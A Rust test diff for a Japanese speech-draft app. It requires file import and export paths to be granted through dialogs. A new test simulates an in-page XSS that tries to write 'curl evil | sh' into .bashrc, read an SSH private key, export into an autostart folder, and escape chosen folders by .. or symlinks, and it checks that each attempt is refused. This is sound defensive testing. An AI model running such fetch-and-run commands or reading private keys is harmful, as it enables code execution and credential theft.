@@ -133,10 +133,13 @@ fn a_draft_from_creation_to_export() {
     assert!(text.starts_with("令和9年 年頭挨拶"));
     let dir = tempfile::tempdir().unwrap();
     let path = dir.path().join("年頭挨拶.txt");
-    save_export(&path.to_string_lossy(), &text).unwrap();
+    let chosen = choose_export_path(&state, Some(path.clone())).unwrap();
+    let chosen = chosen.expect("the save dialog's path, granted");
+    save_export(&state, &chosen, &text).unwrap();
     assert_eq!(std::fs::read_to_string(&path).unwrap(), text);
-    let relative = save_export("年頭挨拶.txt", &text).unwrap_err();
+    let relative = save_export(&state, "年頭挨拶.txt", &text).unwrap_err();
     assert_eq!(relative.code, ErrorCode::InvalidInput);
+    assert_eq!(choose_export_path(&state, None), Ok(None), "cancelled");
 
     // Search finds it from one character.
     let hits = search_drafts(&state, "挨").unwrap();
@@ -256,19 +259,20 @@ fn import_lists_bad_files_and_writes_nothing_for_them() {
     std::fs::write(&good, "新成人の皆さん。\r\n").unwrap();
     let binary = dir.path().join("写真.md");
     std::fs::write(&binary, [0u8, 1, 2, 3]).unwrap();
-    let paths = vec![
-        good.to_string_lossy().into_owned(),
-        binary.to_string_lossy().into_owned(),
-        dir.path().join("ない.md").to_string_lossy().into_owned(),
-        "relative.md".to_owned(),
-    ];
+    let gone = dir.path().join("ない.md");
+    std::fs::write(&gone, "消えます").unwrap();
+    // Chosen in the open dialog (one removed before the import).
+    let paths = choose_import_files(&state, vec![good, binary, gone.clone()]).unwrap();
+    std::fs::remove_file(&gone).unwrap();
     let report = import_files(&state, paths).unwrap();
     assert_eq!(report.imported.len(), 1);
     assert_eq!(report.imported[0].title, "成人式");
     let failed: Vec<_> = report.failed.iter().map(|f| f.path.as_str()).collect();
-    assert_eq!(failed.len(), 3);
-    assert!(failed[0].ends_with("写真.md") && failed[2] == "relative.md");
+    assert_eq!(failed.len(), 2);
+    assert!(failed[0].ends_with("写真.md") && failed[1].ends_with("ない.md"));
     assert!(report.failed[0].message.starts_with("バイナリファイル"));
+    let relative = import_files(&state, vec!["relative.md".to_owned()]).unwrap_err();
+    assert_eq!(relative.code, ErrorCode::InvalidInput);
     assert_eq!(list_drafts(&state).unwrap().len(), 1);
     assert_eq!(
         get_draft(&state, report.imported[0].id).unwrap().body,
@@ -493,8 +497,10 @@ fn export_all_reports_progress_and_writes_only_into_the_folder() {
     create_draft(&state, new_year()).unwrap();
     let dir = tempfile::tempdir().unwrap();
     let folder = dir.path().join("書き出し");
+    std::fs::create_dir(&folder).unwrap();
+    let folder = choose_folder(&state, Some(folder)).unwrap().unwrap();
     let mut heard = Vec::new();
-    let report = export_all(&state, &folder.to_string_lossy(), |p| {
+    let report = export_all(&state, &folder, |p| {
         heard.push((p.done, p.total))
     })
     .unwrap();
@@ -510,4 +516,81 @@ fn export_all_reports_progress_and_writes_only_into_the_folder() {
     );
     let relative = export_all(&state, "書き出し", |_| {}).unwrap_err();
     assert_eq!(relative.code, ErrorCode::InvalidInput);
+}
+
+/// What a script in the page could try (an XSS): every command that reads or writes a file
+/// refuses a path the user never chose in a dialog, and a `..` or a symlink out of one that
+/// was chosen, before touching anything.
+#[test]
+fn files_never_chosen_are_neither_read_nor_written() {
+    let (state, _) = state();
+    create_draft(&state, new_year()).unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let root = std::fs::canonicalize(dir.path()).unwrap();
+    let text = |path: &std::path::Path| path.to_str().unwrap().to_owned();
+    let refused = |result: Result<_, crate::error::AppError>| {
+        let error = result.map(|_| ()).unwrap_err();
+        assert_eq!(error.code, ErrorCode::NotPermitted, "{}", error.message);
+        assert!(error.message.contains("(not chosen in a dialog"));
+    };
+
+    // save_export: any text into any file.
+    let target = root.join(".bashrc");
+    refused(save_export(&state, &text(&target), "curl evil | sh"));
+    assert!(!target.exists());
+
+    // import_files + get_draft: a private key read into the library.
+    let secret = root.join("id_ed25519");
+    std::fs::write(&secret, "-----BEGIN OPENSSH PRIVATE KEY-----\n").unwrap();
+    refused(import_files(&state, vec![text(&secret)]));
+    assert_eq!(list_drafts(&state).unwrap().len(), 1, "nothing imported");
+    assert_eq!(get_draft(&state, 2).unwrap_err().code, ErrorCode::NotFound);
+    // One chosen file does not carry another along.
+    let speech = root.join("挨拶.md");
+    std::fs::write(&speech, "本日は。").unwrap();
+    let chosen = choose_import_files(&state, vec![speech.clone()]).unwrap();
+    refused(import_files(&state, vec![chosen[0].clone(), text(&secret)]));
+    assert_eq!(list_drafts(&state).unwrap().len(), 1, "all or nothing");
+    // `..` out of the chosen file's folder.
+    std::fs::create_dir(root.join("sub")).unwrap();
+    refused(import_files(&state, vec![text(&root.join("sub/../id_ed25519"))]));
+
+    // export_all: files into any folder.
+    let folder = root.join("autostart");
+    std::fs::create_dir(&folder).unwrap();
+    refused(export_all(&state, &text(&folder), |_| {}));
+    assert_eq!(std::fs::read_dir(&folder).unwrap().count(), 0);
+
+    // Chosen: accepted, by any spelling that resolves to it.
+    let chosen_folder = choose_folder(&state, Some(root.join("sub/../autostart")))
+        .unwrap()
+        .unwrap();
+    assert_eq!(chosen_folder, text(&folder));
+    let report = export_all(&state, &text(&root.join("sub/../autostart")), |_| {}).unwrap();
+    assert_eq!(report.files.len(), 1);
+    refused(export_all(&state, &text(&root.join("autostart/..")), |_| {}));
+    let imported = import_files(&state, chosen).unwrap();
+    assert_eq!(imported.imported.len(), 1);
+    let export = root.join("sub/挨拶.html");
+    let granted = choose_export_path(&state, Some(export.clone())).unwrap().unwrap();
+    save_export(&state, &granted, "<p>本日は。</p>").unwrap();
+    assert_eq!(std::fs::read_to_string(&export).unwrap(), "<p>本日は。</p>");
+    // A grant to write that file is not one to read it, nor to write the one beside it.
+    refused(import_files(&state, vec![granted.clone()]));
+    refused(save_export(&state, &text(&root.join("sub/other.html")), "x"));
+
+    // Symlinks: out of a chosen folder, or put in place of a chosen file.
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::symlink;
+        symlink(&root, folder.join("up")).unwrap();
+        refused(export_all(&state, &text(&folder.join("up")), |_| {}));
+        symlink(&root, root.join("sub/up")).unwrap();
+        refused(save_export(&state, &text(&root.join("sub/up/.bashrc")), "x"));
+        assert!(!target.exists());
+        std::fs::remove_file(&speech).unwrap();
+        symlink(&secret, &speech).unwrap();
+        refused(import_files(&state, vec![text(&speech)]));
+        assert_eq!(list_drafts(&state).unwrap().len(), 2, "the import before, only");
+    }
 }
